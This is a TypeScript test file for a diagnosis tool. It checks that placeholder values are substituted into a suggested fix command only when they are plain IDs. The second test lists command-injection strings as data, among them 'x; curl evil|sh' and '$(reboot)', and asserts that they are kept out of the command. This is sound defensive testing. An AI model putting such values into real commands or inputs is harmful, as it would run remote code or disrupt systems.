import assert from 'node:assert/strict';
import {test} from 'node:test';
import type {TextRow} from '../../../source/diagnosis/catalogue/entry.js';
import {textDiagnosis} from '../../../source/diagnosis/catalogue/text-diagnosis.js';

const row: TextRow = {
	id: 'X99',
	slug: 'test.row',
	layer: 'tcp',
	severity: 'error',
	confidence: 'certain',
	title: 'A row of this test',
	explanation: 'It has a placeholder.',
	fixes: [{where: 'here', action: 'approve', command: 'openclaw devices approve REQUEST_ID', applicability: 'has-placeholders'}],
	exitCode: 69,
	patterns: [],
	samples: [],
};

test('a plain value fills its placeholder, and nothing is left to fill', () => {
	const [fix] = textDiagnosis(row, {REQUEST_ID: '1b9d6bcd-bbfd'}).fixes;
	assert.deepEqual([fix?.command, fix?.applicability], ['openclaw devices approve 1b9d6bcd-bbfd', 'safe-to-run']);
});

test('any other value stays out of the command and is shown apart', () => {
	for (const bad of ['x; curl evil|sh', '$(reboot)', '`id`', '-rf', "it's", 'a b', 'a\nb', '', 'x'.repeat(65)]) {
		const [fix] = textDiagnosis(row, {REQUEST_ID: bad}).fixes;
		assert.deepEqual([fix?.command, fix?.applicability], ['openclaw devices approve REQUEST_ID', 'has-placeholders'], bad);
		assert.equal(fix?.shownApart, bad);
	}
	assert.equal(textDiagnosis(row).fixes[0]?.shownApart, undefined);
	assert.equal(textDiagnosis(row, {OTHER: 'x'}).fixes[0]?.command, 'openclaw devices approve REQUEST_ID');
});
